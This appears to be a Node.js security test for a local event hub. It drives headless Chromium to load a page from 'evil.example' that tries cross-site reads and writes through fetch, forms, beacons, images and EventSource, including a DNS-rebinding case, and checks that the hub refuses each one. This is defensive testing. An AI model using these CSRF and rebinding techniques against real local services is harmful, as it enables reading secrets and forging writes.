// A page of somebody else in a real browser, on the machine of an open hub: it reads nothing of the hub and publishes
// nothing. Between browser and hub stands a tap that notes every request, so that it is the hub that refuses.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import http from 'node:http';
import { test } from 'node:test';
import { eventually, startHub, stopAtEnd, temporaryDirectory } from './hub.mjs';

// Itself: the script in /usr/bin is another process, which would be ended in its place.
const browser = '/usr/lib/chromium/chromium-headless-shell';

// Runs in the page: every way a page has to ask something of `hub`. Reports what it saw to where it came from.
async function attack(hub) {
  const seen = {};
  const attempt = async (name, action) => {
    seen[name] = await action().catch((error) => `error: ${error.message}`);
  };
  const publish = (type) => `${hub}/api/v1/events?type=attack.${type}`;
  const send = (type, options) => fetch(publish(type), { method: 'POST', body: 'x', ...options })
    .then((answer) => (answer.type === 'opaque' ? 'opaque' : answer.status));
  await attempt('nocors', () => send('nocors', { mode: 'no-cors' }));
  await attempt('cors', () => send('cors'));
  await attempt('json', () => send('json', { headers: { 'Content-Type': 'application/json' } }));
  await attempt('read', () => fetch(`${hub}/api/v1/events?type=secret`).then((answer) => answer.text()));
  await attempt('image', () => new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = () => resolve('asked');
    image.src = `${hub}/api/v1/events?type=image`;
  }));
  await attempt('stream', () => new Promise((resolve) => {
    const source = new EventSource(`${hub}/api/v1/events/stream?after=0&type=stream`);
    const over = (word) => { source.close(); resolve(word); };
    source.onopen = () => over('open');
    source.onerror = () => over('closed');
  }));
  navigator.sendBeacon(publish('beacon'), 'x');
  const frame = document.createElement('iframe');
  frame.name = 'target';
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', enctype: 'text/plain', target: 'target', action: publish('form') });
  document.body.append(frame, form);
  form.submit();
  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
}

// Serves the page that attacks `http://NAME:<its own port>`, and hands on to the hub whatever is not of the page.
async function tap(t, hub, name) {
  const state = { requests: [], seen: undefined };
  const page = (port) => `<!doctype html><body><script>(${attack})('http://${name}:${port}')</script>`;
  const server = http.createServer(async (request, response) => {
    let body = '';
    for await (const piece of request) body += piece;
    if (!request.url.startsWith('/api/')) {
      if (request.url === '/report') state.seen = JSON.parse(body);
      response.setHeader('Content-Type', 'text/html');
      return response.end(page(state.port));
    }
    const type = new URL(request.url, hub.url).searchParams.get('type');
    const noted = { method: request.method, type, url: request.url, headers: request.headers, body };
    const onward = http.request(hub.url + request.url, { method: request.method, headers: request.headers }, (answer) => {
      noted.status = answer.statusCode;
      state.requests.push(noted);
      response.writeHead(answer.statusCode, answer.headers);
      answer.pipe(response);
    });
    onward.on('error', () => response.destroy());
    response.on('close', () => onward.destroy());
    onward.end(body);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => (server.closeAllConnections(), server.close()));
  state.port = server.address().port;
  return state;
}

// The page of http://evil.example attacks http://NAME, both of which the browser finds at this machine.
async function visit(t, hub, name) {
  assert.ok(existsSync(browser), `${browser} is missing: install the package chromium-headless-shell`);
  const state = await tap(t, hub, name);
  const profile = await temporaryDirectory(t);
  const child = spawn(browser, [
    '--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run', '--remote-debugging-port=0',
    '--disable-background-networking', `--user-data-dir=${profile}`, '--host-resolver-rules=MAP evil.example 127.0.0.1',
    // The browser's own guard of local networks is not what is tested.
    '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests',
    `http://evil.example:${state.port}/`,
  ], { stdio: 'ignore', detached: true });
  const ended = new Promise((resolve) => child.on('exit', resolve));
  stopAtEnd(t, () => (process.kill(-child.pid, 'SIGKILL'), ended));
  const last = ['attack.form', 'attack.beacon'];
  await eventually('the page reports', () =>
    state.seen && last.every((type) => state.requests.some((request) => request.type === type)));
  return state;
}

const answers = (state) =>
  state.requests.map(({ method, type, status }) => `${method} ${type} ${status}`).sort();
const published = async (hub) =>
  (await hub.call('GET', '/api/v1/events?type=attack.*')).events.map((event) => event.type).sort();

// The control: what the browser sent, sent by a program, is taken.
async function publishedByAProgram(hub, state) {
  for (const { method, url, headers, body } of state.requests) {
    if (method === 'POST') {
      assert.equal((await hub.request(method, url, body, { 'Content-Type': headers['content-type'] })).status, 200, url);
    }
  }
  return published(hub);
}

test('a page of another site reaches nothing of an open hub', async (t) => {
  const hub = await startHub(t);
  await hub.publish('secret', 'canary');
  const state = await visit(t, hub, '127.0.0.1');
  assert.deepEqual(await published(hub), [], JSON.stringify(state.seen));
  assert.doesNotMatch(JSON.stringify(state.seen), /canary/);
  assert.equal(state.seen.stream, 'closed');
  // The browser asks before it sends JSON elsewhere, and sends the rest without asking.
  assert.deepEqual(answers(state), [
    'GET image 403', 'GET secret 403', 'GET stream 403', 'OPTIONS attack.json 403', 'POST attack.beacon 403',
    'POST attack.cors 403', 'POST attack.form 403', 'POST attack.nocors 403',
  ]);
  assert.deepEqual(await publishedByAProgram(hub, state),
    ['attack.beacon', 'attack.cors', 'attack.form', 'attack.nocors']);
});

const everything = ['attack.beacon', 'attack.cors', 'attack.form', 'attack.json', 'attack.nocors'];

// The name belonged to the attacker when the page was loaded and leads here now: to the browser one origin.
test('a name that was bound anew to this machine reaches nothing of an open hub', async (t) => {
  const hub = await startHub(t);
  await hub.publish('secret', 'canary');
  const state = await visit(t, hub, 'evil.example');
  assert.deepEqual(await published(hub), [], JSON.stringify(state.seen));
  assert.doesNotMatch(JSON.stringify(state.seen), /canary/);
  assert.equal(state.seen.stream, 'closed');
  assert.match(state.seen.read, /the Host header must be localhost/);
  assert.deepEqual(answers(state), [
    'GET image 403', 'GET secret 403', 'GET stream 403', ...everything.map((type) => `POST ${type} 403`),
  ]);
  assert.deepEqual(await publishedByAProgram(hub, state), everything);
});

test('the control: with the guard given up the same page reads and publishes', async (t) => {
  const hub = await startHub(t, '--insecure');
  await hub.publish('secret', 'canary');
  const state = await visit(t, hub, 'evil.example');
  assert.deepEqual(await published(hub), everything);
  assert.match(state.seen.read, /canary/);
  assert.equal(state.seen.stream, 'open');
});
